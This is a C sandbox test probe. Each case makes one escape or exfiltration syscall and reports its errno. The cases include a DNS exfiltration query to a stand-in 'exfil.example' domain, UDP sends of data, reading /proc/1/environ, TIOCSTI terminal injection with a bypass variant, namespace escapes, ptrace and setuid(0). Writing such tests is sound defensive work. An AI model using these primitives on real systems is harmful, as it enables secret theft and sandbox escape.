/*
 * probe.c — runs INSIDE the sandbox; makes one attack syscall and prints the
 * outcome as "<case> rc=<n> errno=<NAME>" so the test can assert exact errnos.
 * Cases that should be killed print nothing after the call.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <unistd.h>

static const char *en(int e)
{
    switch (e) {
    case 0: return "0";
    case EPERM: return "EPERM"; case EACCES: return "EACCES"; case ENOSYS: return "ENOSYS";
    case ENETUNREACH: return "ENETUNREACH"; case EAFNOSUPPORT: return "EAFNOSUPPORT";
    case ECONNREFUSED: return "ECONNREFUSED"; case EROFS: return "EROFS"; case EXDEV: return "EXDEV";
    case ENOENT: return "ENOENT"; case EINVAL: return "EINVAL"; case EBUSY: return "EBUSY";
    case ENOTTY: return "ENOTTY"; case EFAULT: return "EFAULT"; case EBADF: return "EBADF";
    case ESRCH: return "ESRCH"; case ENOSPC: return "ENOSPC"; case EOPNOTSUPP: return "EOPNOTSUPP";
    default: { static char b[16]; snprintf(b, sizeof b, "E%d", e); return b; }
    }
}

static void report(const char *name, long rc)
{
    printf("%s rc=%ld errno=%s\n", name, rc, rc < 0 ? en(errno) : "0");
    fflush(stdout);
}

static struct sockaddr_in v4(const char *ip, int port)
{
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };
    inet_pton(AF_INET, ip, &a.sin_addr);
    return a;
}

int main(int argc, char **argv)
{
    if (argc < 2) return 2;
    const char *c = argv[1];
    int port = argc > 2 ? atoi(argv[2]) : 9;
    if (!strcmp(c, "connect4")) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        struct sockaddr_in a = v4(argc > 3 ? argv[3] : "127.0.0.1", port);
        report(c, connect(s, (struct sockaddr *)&a, sizeof a));
    } else if (!strcmp(c, "connect6")) {
        int s = socket(AF_INET6, SOCK_STREAM, 0);
        struct sockaddr_in6 a = { .sin6_family = AF_INET6, .sin6_port = htons((uint16_t)port) };
        inet_pton(AF_INET6, "::1", &a.sin6_addr);
        report(c, connect(s, (struct sockaddr *)&a, sizeof a));
    } else if (!strcmp(c, "udp")) {
        int s = socket(AF_INET, SOCK_DGRAM, 0);
        struct sockaddr_in a = v4("127.0.0.1", port);
        report(c, sendto(s, "exfil", 5, 0, (struct sockaddr *)&a, sizeof a));
    } else if (!strcmp(c, "udpmsg")) {
        int s = socket(AF_INET, SOCK_DGRAM, 0);
        struct sockaddr_in a = v4("127.0.0.1", port);
        struct iovec iov = { "exfil", 5 };
        struct msghdr mh = { .msg_name = &a, .msg_namelen = sizeof a, .msg_iov = &iov, .msg_iovlen = 1 };
        report(c, sendmsg(s, &mh, 0));
    } else if (!strcmp(c, "dns")) {  /* a query for secret.exfil.example to 10.0.0.2:53 */
        int s = socket(AF_INET, SOCK_DGRAM, 0);
        struct sockaddr_in a = v4("10.0.0.2", 53);
        unsigned char q[] = { 0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 6, 's', 'e', 'c', 'r', 'e', 't',
                              5, 'e', 'x', 'f', 'i', 'l', 7, 'e', 'x', 'a', 'm', 'p', 'l', 'e', 0, 0, 1, 0, 1 };
        report(c, sendto(s, q, sizeof q, 0, (struct sockaddr *)&a, sizeof a));
    } else if (!strcmp(c, "bind4")) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        struct sockaddr_in a = v4("0.0.0.0", port);
        report(c, bind(s, (struct sockaddr *)&a, sizeof a));
    } else if (!strcmp(c, "packet")) {
        report(c, socket(AF_PACKET, SOCK_RAW, 0));
    } else if (!strcmp(c, "vsock")) {
        report(c, socket(40 /* AF_VSOCK */, SOCK_STREAM, 0));
    } else if (!strcmp(c, "alg")) {
        report(c, socket(38 /* AF_ALG */, SOCK_SEQPACKET, 0));
    } else if (!strcmp(c, "rawinet")) {
        report(c, socket(AF_INET, SOCK_RAW, IPPROTO_ICMP));
    } else if (!strcmp(c, "unshare")) {
        report(c, unshare(CLONE_NEWUSER));
    } else if (!strcmp(c, "clonens")) {
        long r = syscall(SYS_clone, CLONE_NEWNET | SIGCHLD, 0, 0, 0, 0);
        if (r == 0) _exit(0);
        report(c, r);
    } else if (!strcmp(c, "clone3")) {
        struct { uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls; } a = { .exit_signal = SIGCHLD };
        long r = syscall(SYS_clone3, &a, sizeof a);
        if (r == 0) _exit(0);
        report(c, r);
    } else if (!strcmp(c, "setns")) {
        report(c, syscall(SYS_setns, 0, CLONE_NEWNET));
    } else if (!strcmp(c, "ptrace")) {
        report(c, ptrace(PTRACE_TRACEME, 0, 0, 0));
    } else if (!strcmp(c, "vmread")) {
        char buf[8], src[8] = "x";
        struct iovec l = { buf, 8 }, r = { src, 8 };
        report(c, process_vm_readv(getppid(), &l, 1, &r, 1, 0));
    } else if (!strcmp(c, "bpf")) {
        report(c, syscall(SYS_bpf, 0, NULL, 0));
    } else if (!strcmp(c, "io_uring")) {
        char params[120] = { 0 };
        report(c, syscall(SYS_io_uring_setup, 8, params));
    } else if (!strcmp(c, "keyctl")) {
        report(c, syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3, 0));
    } else if (!strcmp(c, "add_key")) {
        report(c, syscall(SYS_add_key, "user", "k", "v", 1, -3));
    } else if (!strcmp(c, "perf")) {
        char attr[128] = { 0 };
        report(c, syscall(SYS_perf_event_open, attr, 0, -1, -1, 0));
    } else if (!strcmp(c, "userfaultfd")) {
        report(c, syscall(SYS_userfaultfd, 0));
    } else if (!strcmp(c, "mount")) {
        report(c, mount("none", "/tmp", "tmpfs", 0, NULL));
    } else if (!strcmp(c, "personality")) {
        report(c, personality(ADDR_NO_RANDOMIZE));
    } else if (!strcmp(c, "tiocsti")) {
        char ch = 'x';
        report(c, ioctl(0, TIOCSTI, &ch));
    } else if (!strcmp(c, "tiocsti_high")) {
        char ch = 'x';
        report(c, syscall(SYS_ioctl, 0, (1UL << 32) | TIOCSTI, &ch));
    } else if (!strcmp(c, "tioclinux")) {
        char sub = 2;
        report(c, ioctl(0, TIOCLINUX, &sub));
    } else if (!strcmp(c, "x32")) {
        printf("x32 start\n"); fflush(stdout);
        report(c, syscall(0x40000000 | 39 /* getpid */));
    } else if (!strcmp(c, "i386")) {
        printf("i386 start\n"); fflush(stdout);
        long r;
        __asm__ volatile("int $0x80" : "=a"(r) : "a"(20 /* getpid */) : "memory");
        report(c, r);
    } else if (!strcmp(c, "mknod")) {
        report(c, mknod("nod", S_IFCHR | 0600, makedev(1, 3)));
    } else if (!strcmp(c, "mkfifo")) {
        report(c, mkfifo("fifo", 0600));
    } else if (!strcmp(c, "unknown")) {
        report(c, syscall(1000));
    } else if (!strcmp(c, "second_listener")) {  /* a nested sandbox may add a filter, not a 2nd listener */
        struct sock_filter f = { 0x06, 0, 0, SECCOMP_RET_ALLOW };
        struct sock_fprog p = { 1, &f };
        report(c, syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &p));
    } else if (!strcmp(c, "environ1")) {
        report(c, open("/proc/1/environ", O_RDONLY));
    } else if (!strcmp(c, "setuid0")) {
        report(c, setuid(0));
    } else {
        return 2;
    }
    return 0;
}
